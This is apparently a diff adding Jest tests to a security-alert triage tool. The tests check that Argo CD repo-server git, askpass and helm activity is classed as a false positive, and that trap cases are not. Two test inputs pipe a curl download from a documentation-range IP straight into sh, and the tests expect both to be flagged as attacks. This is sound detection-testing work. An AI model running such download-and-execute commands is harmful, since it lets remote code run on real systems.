@@ -138,3 +138,45 @@ describe('workload-baseline: an exec probe script started by path runs under its
     expect(run('/bin/bash /opt/kafka/kafka_readiness.sh; curl -s http://203.0.113.9/x | sh').verdict.label).toBe('genuine');
   });
 });
+
+describe("gitops-render: a repository server's git/helm/kustomize chain and Argo CD's git askpass", () => {
+  const W = 'i-0a41c9e2d7b3f5801';
+  const repo = pod('argocd-repo-server-5d8f-abcde', {
+    namespace: 'argocd',
+    node: W,
+    ip: '100.108.0.40',
+    owner: { kind: 'ReplicaSet', name: 'argocd-repo-server-5d8f' },
+    containers: [{ name: 'argocd-repo-server', image: 'quay.io/argoproj/argocd:v2.11.3', args: ['/usr/local/bin/argocd-repo-server', '--port=8081'] }],
+  });
+  const app = pod('ledger-api-1', { namespace: 'ledger', node: W, ip: '100.108.0.90', containers: [{ name: 'api', image: 'registry.example/ledger-api:3.8.0', command: ['java', '-jar', '/app/api.jar'] }] });
+  const idx = indexOf([node(W, '172.20.45.17'), repo, app]);
+  const GIT = { name: 'git', path: '/usr/bin/git', commandLine: 'git fetch origin --tags --force --prune' };
+  const ASKPASS = { name: 'argocd', path: '/usr/local/bin/argocd', commandLine: "argocd Username for 'https://git.example.org': " };
+  const DAEMON = { name: 'argocd-repo-server', commandLine: '/usr/local/bin/argocd-repo-server --port=8081' };
+  const at = (p: typeof repo) => ({ id: containerIdOf(p).slice(0, 12), name: p.spec.containers[0].name, pod: p.metadata.name, namespace: p.metadata.namespace });
+  it("explains git asking Argo CD's own binary for credentials in the repo server", () => {
+    const r = triageAlert(alert({ host: W, title: 'Credential Prompt Spoofing via Askpass Helper', process: ASKPASS, ancestors: [GIT], container: at(repo) }), { index: idx });
+    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
+    expect(r.verdict.reasons[0].message).toMatch(/GIT_ASKPASS/);
+  });
+  it('explains it from a node sensor without container ids, by the repo server running on that node', () => {
+    const r = triageAlert(alert({ host: W, process: ASKPASS, ancestors: [{ name: 'git-remote-https', commandLine: 'git-remote-https origin https://git.example.org/p.git' }, GIT] }), { index: idx });
+    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
+  });
+  it('explains helm under the repo server daemon', () => {
+    const r = triageAlert(alert({ host: W, process: { name: 'helm', path: '/usr/local/bin/helm', commandLine: 'helm template . --name-template ledger' }, ancestors: [DAEMON], container: at(repo) }), { index: idx });
+    expect(r.verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
+  });
+  it('trap: the askpass words from a shell, not git, are not the helper', () => {
+    const r = triageAlert(alert({ host: W, process: ASKPASS, ancestors: [{ name: 'bash', commandLine: 'bash' }], container: at(repo) }), { index: idx });
+    expect(r.verdict.reasons.some((e) => e.rule === 'gitops-render')).toBe(false);
+  });
+  it('trap: git in an application pod is not the repo server', () => {
+    const r = triageAlert(alert({ host: W, process: { name: 'git', commandLine: 'git clone https://git.example.org/x.git' }, ancestors: [{ name: 'java', commandLine: 'java -jar /app/api.jar' }], container: at(app) }), { index: idx });
+    expect(r.verdict.reasons.some((e) => e.rule === 'gitops-render')).toBe(false);
+  });
+  it('trap: a download piped into a shell in the repo server stays an attack', () => {
+    const r = triageAlert(alert({ host: W, process: { name: 'sh', commandLine: 'sh -c curl -s http://203.0.113.50/k.sh | sh' }, ancestors: [GIT], container: at(repo) }), { index: idx });
+    expect(r.verdict).toMatchObject({ label: 'genuine', cause: 'attack' });
+  });
+});
